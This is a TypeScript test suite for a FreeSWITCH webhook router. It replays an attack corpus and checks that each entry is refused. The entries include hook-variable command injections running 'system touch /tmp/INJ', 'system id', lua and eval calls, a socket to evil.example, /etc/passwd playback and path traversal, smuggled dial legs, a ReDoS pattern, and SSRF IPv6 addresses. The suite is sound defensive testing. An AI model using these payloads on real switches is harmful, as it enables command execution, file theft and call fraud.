/**
 * Security (SPEC 10, issue "safe by construction"): what a hostile config
 * author, caller or webhook tried against the real switch, replayed through
 * the whole router. A config that could run anything on the switch is
 * refused (config_invalid: nothing of it runs, DEFAULT_ON_FAILURE does); a
 * hostile answer or caller changes nothing FreeSWITCH runs. Only the public
 * interface is used: Redis hashes, the webhook, the simulated switch, logs.
 */
import assert from 'node:assert/strict'
import { createHmac } from 'node:crypto'
import { connect } from 'node:net'
import { after, before, describe, it } from 'node:test'
import type { SimCall } from '../sim/simulator.ts'
import { RouterHarness } from '../support/router-harness.ts'

const FALLBACK = '["transfer 0 XML default"]'
/** Hook variables run APIs later (NOTES: api_hangup_hook, execute_on_answer, api_on_*, *_hook); `webhook*` are ours. */
const HOOK_NAME = /^(?!webhook)\w*hook|^api_|^execute_on_|^exec_on_/

/** Nothing the config wrote ran: only DEFAULT_ON_FAILURE's transfer, no API expansion, no hook variable. */
function assertOnlyTheDefaultRan(call: SimCall, label: string): void {
  assert.deepEqual(
    call.executed.map((app) => [app.app, app.arg]),
    [['transfer', '0 XML default']],
    `${label}: only DEFAULT_ON_FAILURE ran`,
  )
  assert.deepEqual(call.apiExpansions, [], `${label}: no API ran`)
  for (const [name] of call.variables()) assert.ok(!HOOK_NAME.test(name), `${label}: hook variable ${name} is set`)
}

describe('attack corpus: configs that would reach beyond what the operator allowed are refused', () => {
  let h: RouterHarness
  before(async () => {
    h = await RouterHarness.start({ env: { DEFAULT_ON_FAILURE: FALLBACK } })
  })
  after(async () => h.close())

  const INJ = 'system touch /tmp/INJ'
  const cases: Array<readonly [label: string, field: string, value: string]> = [
    // Finding 1: hook variables, all three verified on the real switch.
    ['set api_hangup_hook', 'on_failure', `["set api_hangup_hook=${INJ}"]`],
    ['export execute_on_answer before a bridge', 'on_failure', `["export execute_on_answer=${INJ}", "bridge 1001"]`],
    ['api_on_answer in a bridge {} block (raw endpoint)', 'on_failure', `["bridge {api_on_answer=${INJ}}loopback/1001/default"]`],
    ['api_on_answer in a bridge {} block (allowed destination)', 'on_failure', `["bridge {api_on_answer=${INJ}}1001"]`],
    ['execute_on_answer in a [] leg block', 'on_failure', `["bridge [execute_on_answer=${INJ}]1001"]`],
    ['api_on_answer in a <> enterprise block', 'on_failure', `["bridge <api_on_answer=${INJ}>1001"]`],
    ['multiset of a hook', 'on_success', `["multiset api_hangup_hook=system"]`],
    ['export nolocal: hook', 'on_failure', `["export nolocal:api_hangup_hook=${INJ}"]`],
    ['session_in_hangup_hook', 'on_failure', '["set session_in_hangup_hook=true", "set api_hangup_hook=system"]'],
    ['api_on_ring', 'on_failure', '["set api_on_ring=system"]'],
    ['execute_on_originate', 'on_failure', '["set execute_on_originate=system"]'],
    ['api_reporting_hook', 'on_failure', '["set api_reporting_hook=system"]'],
    ['hangup_after_bridge is fine but a hook in the same block is not', 'on_failure', `["bridge {hangup_after_bridge=true,api_on_answer=${INJ}}+31201234567"]`],
    // Finding 2: references to caller-controlled variables (recursive expansion, K3).
    ['playback ${caller_id_name}', 'on_failure', '["playback ${caller_id_name}"]'],
    ['set effective_caller_id_name=${caller_id_name}', 'on_success', '["set effective_caller_id_name=${caller_id_name}"]'],
    ['log ${sip_from_display}', 'on_failure', '["log INFO ${sip_from_display}"]'],
    ['transfer ${destination_number}', 'on_failure', '["transfer ${destination_number} XML default"]'],
    ['a SIP header variable', 'on_failure', '["log INFO ${sip_h_X-Evil}"]'],
    ['a nested reference', 'on_failure', '["log INFO ${webhook_${caller_id_name}}"]'],
    ['an escaped API call', 'on_failure', '["log INFO \\\\${system id}"]'],
    ['a global variable', 'on_failure', '["log INFO $${hostname}"]'],
    ['an API call', 'on_failure', '["log INFO ${expr 6*7}"]'],
    ['a reference in an IVR prompt', 'ivr_start_message', '${caller_id_name}'],
    // Finding 4: a destination the webhook chose, into a dial string the config wrote.
    ['bridge sofia/gateway/backup/${webhook_destination}', 'on_failure', '["bridge sofia/gateway/backup/${webhook_destination}"]'],
    // Other gateways, endpoints, domains, contexts, files, URLs, applications.
    ['another gateway', 'on_failure', '["bridge sofia/gateway/evil/+31201234567"]'],
    ['a user on another domain', 'on_failure', '["bridge user/1000@other.example"]'],
    ['parallel legs', 'on_failure', '["bridge 1000,1001"]'],
    ['failover legs', 'on_failure', '["bridge +31201234567|sofia/gateway/evil/900"]'],
    ['a transfer to another context', 'on_failure', '["transfer 200 XML other-tenant"]'],
    ['an inline-dialplan transfer', 'on_failure', '["transfer set:x=1,bridge:user/1000 inline"]'],
    ['transfer -bleg', 'on_failure', '["transfer -bleg 200"]'],
    ['playback of a URL', 'on_failure', '["playback http://evil.example/a.wav"]'],
    ['playback of an absolute path', 'on_failure', '["playback /etc/passwd"]'],
    ['playback climbing out of the sound directory', 'on_failure', '["playback ../../../../etc/passwd"]'],
    ['playback with a {vars} prefix', 'on_failure', `["playback {api_on_answer=${INJ}}ivr/a.wav"]`],
    ['an IVR prompt URL', 'ivr_error_message', 'http://evil.example/a.wav'],
    ['system', 'on_failure', '["system id"]'],
    ['bgsystem', 'on_success', '["bgsystem id"]'],
    ['lua', 'on_failure', '["lua evil.lua"]'],
    ['socket to another controller', 'on_failure', '["socket evil.example:8084 async full"]'],
    ['eval', 'on_failure', '["eval ${system id}"]'],
    ['redirect to another SIP URI', 'on_failure', '["redirect sip:evil@evil.example"]'],
    ['record_session to a file', 'on_failure', '["record_session /tmp/evil.wav"]'],
  ]

  for (const [index, [label, field, value]] of cases.entries()) {
    it(`refuses ${label}`, async () => {
      const name = `hostile-${index}`
      await h.configure(name, { url: h.webhook.url('/hook'), ivr: field.startsWith('ivr') ? '1' : '0', [field]: value })
      h.webhook.reply({ body: 'status=NAK' })
      const before = h.webhook.requests.length
      const { call, summary } = await h.call({ variables: { webhook: name } })
      const logged = h.logs.lines.filter((line) => line.msg.startsWith('webhook config invalid')).find((line) => line['key'] === `webhook:${name}`)
      assert.equal(logged?.['field'], field, `${label}: the log names the field`)
      assert.equal(summary.outcome.reason, 'config_invalid', label)
      assert.equal(call.variable('webhook_reason'), 'config_invalid')
      assert.equal(h.webhook.requests.length, before, 'the webhook is not called')
      assertOnlyTheDefaultRan(call, label)
    })
  }

  it('the same kinds of steps within the grammar run, with what FreeSWITCH receives exactly as expected', async () => {
    await h.configure('allowed', {
      url: h.webhook.url('/hook'),
      on_failure: JSON.stringify(['log INFO webhook said ${webhook_status}', 'set effective_caller_id_name=Sales ${webhook_callername}', 'bridge {leg_timeout=20}+31201234567', 'transfer 200 XML default']),
    })
    h.webhook.reply({ body: 'status=NAK&callername=%24%7Bsystem%20touch%20%2Ftmp%2FINJ%7D' })
    const { call, summary } = await h.call({ variables: { webhook: 'allowed' }, bridge: [{ fail: 'USER_BUSY' }] })
    assert.equal(summary.outcome.reason, 'nak')
    assert.deepEqual(
      call.executed.map((app) => [app.app, app.arg]),
      [
        ['log', 'INFO webhook said NAK'],
        ['set', 'effective_caller_id_name=Sales (system touch /tmp/INJ)'],
        ['bridge', '{leg_timeout=20}sofia/gateway/default/+31201234567'],
        ['transfer', '200 XML default'],
      ],
    )
    assert.deepEqual(call.apiExpansions, [])
  })
})

describe('attack corpus: hostile answers and callers', () => {
  let h: RouterHarness
  before(async () => {
    h = await RouterHarness.start({ session: { replyTimeoutMs: 300 } })
  })
  after(async () => h.close())

  it('finding 3: a catastrophic destinations pattern neither stalls the router nor other calls', async () => {
    await h.configure('redos', { url: h.webhook.url('/redos'), destinations: '(((\\+?\\d+)+)+)+x' })
    await h.configure('plain', { url: h.webhook.url('/plain') })
    h.webhook.reply((request) => ({ body: request.url.startsWith('/redos') ? 'status=ACK&destination=%2B123456789012345' : 'status=ACK&destination=%2B31502102544' }))
    const started = performance.now()
    const [hostile, other] = await Promise.all([h.call({ variables: { webhook: 'redos' } }), h.call({ variables: { webhook: 'plain' } })])
    const healthy = await fetch(`${h.opsUrl}/healthz`)
    assert.equal(healthy.status, 200)
    assert.equal(hostile.summary.outcome.reason, 'bad_destination')
    assert.equal(other.summary.outcome.reason, 'ok')
    // Backtracking took 26 s on one core for this pattern and input; linear matching takes microseconds.
    assert.ok(performance.now() - started < 10_000, `both calls done in ${Math.round(performance.now() - started)} ms`)
  })

  it('finding 3: patterns a linear engine cannot run, or that are too large, are refused when stored', async () => {
    for (const [index, pattern] of ['(a)\\1', '(?=1)\\d+', '(?<!0)\\d+', '\\d{1,1000}', `(${'\\d|'.repeat(200)}x)`].entries()) {
      await h.configure(`pattern-${index}`, { url: h.webhook.url('/p'), destinations: pattern })
      const { summary } = await h.call({ variables: { webhook: `pattern-${index}` } })
      assert.equal(summary.outcome.reason, 'config_invalid', pattern)
      const logged = h.logs.lines.filter((line) => line.msg.startsWith('webhook config invalid')).find((line) => line['key'] === `webhook:pattern-${index}`)
      assert.equal(logged?.['field'], 'destinations', pattern)
    }
  })

  it('finding 4: a refused destination is never stored where a dial string could use it', async () => {
    await h.configure('refuse', { url: h.webhook.url('/refuse'), destinations: '\\+31\\d{9}' })
    for (const destination of ['1000,sofia/gateway/evil/900', '1000;sofia/gateway/evil/900', '+1900555123', '{x=y}1000', '1000|user/2000']) {
      h.webhook.reply({ body: `status=ACK&destination=${encodeURIComponent(destination)}` })
      const { call, summary } = await h.call({ variables: { webhook: 'refuse' } })
      assert.equal(summary.outcome.reason, 'bad_destination', destination)
      assert.equal(call.variable('webhook_destination'), undefined, `${destination} is not stored`)
      assert.equal(call.bridges.length, 0)
    }
  })

  it('finding 5: a caller numbered ".." cannot change the requested path, and the signature covers what was sent', async () => {
    const secret = 'shared-secret'
    await h.configure('path', { url: h.webhook.url('/customers/{callerid}/route?did={did}'), secret })
    h.webhook.reply({ body: 'status=NAK' })
    for (const [number, path] of [
      ['..', '/customers/%2E%2E/route?did=31201234567'],
      ['.', '/customers/%2E/route?did=31201234567'],
      ['...', '/customers/.../route?did=31201234567'],
      ['a/../..', '/customers/a%2F..%2F../route?did=31201234567'],
    ] as const) {
      await h.call({ variables: { webhook: 'path' }, callerIdNumber: number })
      const request = h.webhook.requests.at(-1)
      assert.equal(request?.url, path, number)
      const timestamp = String(request?.headers['x-webhook-timestamp'])
      const expected = `v1=${createHmac('sha256', secret).update(`${timestamp}.GET.${h.webhook.url(path)}.`).digest('hex')}`
      assert.equal(request?.headers['x-webhook-signature'], expected, 'the signature covers the URL exactly as requested')
    }
  })

  it('finding 5: CR, LF or TAB in a stored url makes the config invalid', async () => {
    for (const [index, url] of [`${h.webhook.url('/a')}\t?x=1`, `${h.webhook.url('/a')}\r\n`, `${h.webhook.url('/a')}?x=\n1`].entries()) {
      await h.configure(`ctl-${index}`, { url })
      const { summary } = await h.call({ variables: { webhook: `ctl-${index}` } })
      assert.equal(summary.outcome.reason, 'config_invalid', JSON.stringify(url))
      const logged = h.logs.lines.filter((line) => line.msg.startsWith('webhook config invalid')).find((line) => line['key'] === `webhook:ctl-${index}`)
      assert.equal(logged?.['field'], 'url')
    }
  })

  it('finding 6: IPv6 forms that embed an internal IPv4 address are refused, before any connection', async () => {
    const port = h.webhook.port
    for (const host of ['[::127.0.0.2]', '[::ffff:10.0.0.1]', '[::ffff:169.254.169.254]', '[::ffff:0:7f00:1]', '[64:ff9b::7f00:1]', '[64:ff9b:1::7f00:1]', '[2002:7f00:1::1]', '[2001::1]', '[fec0::1]', '[100::1]', '[fe80::1]', '[fd00::1]']) {
      await h.configure('v6', { url: `http://${host}:${port}/x` })
      const { summary } = await h.call({ variables: { webhook: 'v6' } })
      const failed = h.logs.find('webhook failed').at(-1)
      assert.equal(summary.outcome.reason, 'http_error', host)
      assert.match(String(failed?.['detail']), /internal address/, `${host}: ${String(failed?.['detail'])}`)
    }
  })

  it('finding 7: an invalid config never puts its URL query values in a log line, at edit time or on a call', async () => {
    const token = 'TOKEN-abcdef-123456'
    await h.configure('leaky', { url: h.webhook.url(`/x?token=${token}&did={did}`), caller_id: 'bogus' })
    await h.call({ variables: { webhook: 'leaky' } })
    // An edit of a cached config is logged at once, from the invalidation.
    const edited = h.logs.next('webhook config invalid', (line) => line['key'] === 'webhook:leaky')
    await h.configure('leaky', { url: h.webhook.url(`/y?token=${token}&did={did}`), caller_id: 'bogus' })
    await until(edited, 5000, 'the edit to be logged')
    await h.call({ variables: { webhook: 'leaky' } })
    await h.configure('leaky-url', { url: `${h.webhook.url('/x')}?token=${token}&x={nope}` })
    await h.call({ variables: { webhook: 'leaky-url' } })
    const leaks = h.logs.raw.filter((line) => line.includes(token))
    assert.deepEqual(leaks, [])
  })

  it('finding 8: a hand-back after a failure logs no error', async () => {
    await h.configure('handback', { url: h.webhook.url('/nak') })
    h.webhook.reply({ body: 'status=NAK' })
    const from = h.logs.lines.length
    const { summary, result } = await h.call({ variables: { webhook: 'handback' } })
    assert.equal(summary.disposition, 'handed-back')
    assert.equal(result.disposition, 'handed-back')
    const errors = h.logs.lines.slice(from).filter((line) => line.level >= 50)
    assert.deepEqual(errors, [])
  })

  it('finding 9: a peer that answers connect and then goes silent is let go', async () => {
    // With the IVR the router waits on FreeSWITCH (answer, play_and_get_digits), which never answers.
    await h.configure('silent', { url: h.webhook.url('/silent'), ivr: '1' })
    const socket = connect(h.eslPort, '127.0.0.1')
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
    socket.on('error', () => {})
    await new Promise<void>((resolve) => socket.once('data', () => resolve()))
    socket.write(connectReply('6f0c1a4e-0000-4000-8000-00000000f009', 'silent'))
    await until(closed, 5000, 'the router to close a connection whose peer stopped answering')
    await until(waitFor(() => h.app.esl.activeSessions === 0), 5000, 'the session to be released')
  })

  it('finding 10: a flood of junk frames costs a few log lines, not one each', async () => {
    const from = h.logs.lines.length
    const socket = connect(h.eslPort, '127.0.0.1')
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
    socket.on('error', () => {})
    await new Promise<void>((resolve) => socket.once('data', () => resolve()))
    const uuid = '6f0c1a4e-0000-4000-8000-00000000f010'
    const junk = 'Content-Type: command/reply\nReply-Text: +OK\n\n'.repeat(2000)
    const bad = `Content-Length: 9\nContent-Type: text/event-json\n\n{"broken"`.repeat(50)
    let payload = connectReply(uuid) + `Content-Type: command/reply\nReply-Text: +OK\n\n`.repeat(2)
    for (let i = 0; i < 20; i++) payload += junk
    socket.write(payload)
    socket.write(bad)
    socket.end()
    await until(closed, 10_000, 'the junk peer to be closed')
    await until(waitFor(() => h.app.esl.activeSessions === 0), 5000, 'the junk session to be released')
    const lines = h.logs.lines.slice(from).filter((line) => line['call'] === uuid || line.msg.includes('reply arrived'))
    assert.ok(lines.length <= 12, `${lines.length} log lines for 40,000 junk frames`)
  })

  it('finding 10: a 10 KB webhook name is cut in every log line of the call', async () => {
    const from = h.logs.raw.length
    const name = `x${'N'.repeat(10 * 1024)}`
    const { call } = await h.call({ variables: { webhook: name } })
    const bytes = h.logs.raw
      .slice(from)
      .filter((line) => line.includes(call.uuid))
      .reduce((sum, line) => sum + line.length, 0)
    assert.ok(bytes < 4096, `${bytes} bytes of log for one call`)
  })
})

function connectReply(uuid: string, webhook = 'nobody'): string {
  const headers = [
    ['Event-Name', 'CHANNEL_DATA'],
    ['Unique-ID', uuid],
    ['Caller-Caller-ID-Number', '5551230001'],
    ['Caller-Caller-ID-Name', 'Silent%20Peer'],
    ['Caller-Destination-Number', '31201234567'],
    ['variable_webhook', webhook],
    ['Content-Type', 'command/reply'],
    ['Reply-Text', '%2BOK%0A'],
    ['Socket-Mode', 'async'],
    ['Control', 'full'],
  ]
  return `${headers.map(([name, value]) => `${name}: ${value}`).join('\n')}\n\n`
}

/** A promise that resolves once `predicate` holds (checked every few ms). */
async function waitFor(predicate: () => boolean): Promise<void> {
  while (!predicate()) await new Promise((resolve) => setTimeout(resolve, 5))
}

/** Waits for `promise`, failing with a message naming what did not happen. */
async function until(promise: Promise<unknown>, ms: number, what: string): Promise<void> {
  let timer: NodeJS.Timeout | undefined
  const deadline = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`timed out after ${ms} ms waiting for ${what}`)), ms)
  })
  try {
    await Promise.race([promise, deadline])
  } finally {
    clearTimeout(timer)
  }
}
